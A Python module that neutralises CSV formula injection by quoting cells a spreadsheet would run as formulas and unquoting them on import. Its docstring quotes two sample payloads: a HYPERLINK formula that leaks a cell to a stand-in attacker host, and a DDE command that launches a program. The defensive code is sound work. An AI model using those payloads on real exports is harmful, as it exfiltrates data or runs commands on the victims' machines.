"""Text a spreadsheet would take for a formula, written so it stays text (CSV injection).

A customer named ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` or
``+cmd|' /C calc'!A0`` must reach the manager who opens an export as that
text, never as a formula run on their machine.  Spreadsheets read a cell
starting with ``=`` ``+`` ``-`` ``@``, a tab or a carriage return as a
formula, so, as OWASP advises, a CSV export puts one ``'`` in front of such
a text (:func:`defuse`) and the importer takes exactly that one quote off
again (:func:`restore`), so a round trip gives back the text it started
with.  A text that already starts with quotes before such a character gets
one more, so it too comes back as it was.  A plain number (``-5``,
``+1.5e3``) is no formula and is left alone.  XLSX needs no quote: the
exporter stores such a cell as a string (:func:`formula_like`).
"""

from __future__ import annotations

import re

#: What a spreadsheet reads as the start of a formula.
TRIGGERS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet would take ``text`` for a formula."""
    return text[:1] in TRIGGERS and text != ""


def defuse(text: str) -> str:
    """``text`` for a CSV cell: with one ``'`` in front when it would be read as a formula."""
    if _NEEDS_QUOTE.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def restore(text: str) -> str:
    """A CSV cell as it was before :func:`defuse`: the one quote it added taken off."""
    return text[1:] if _QUOTED.match(text) else text
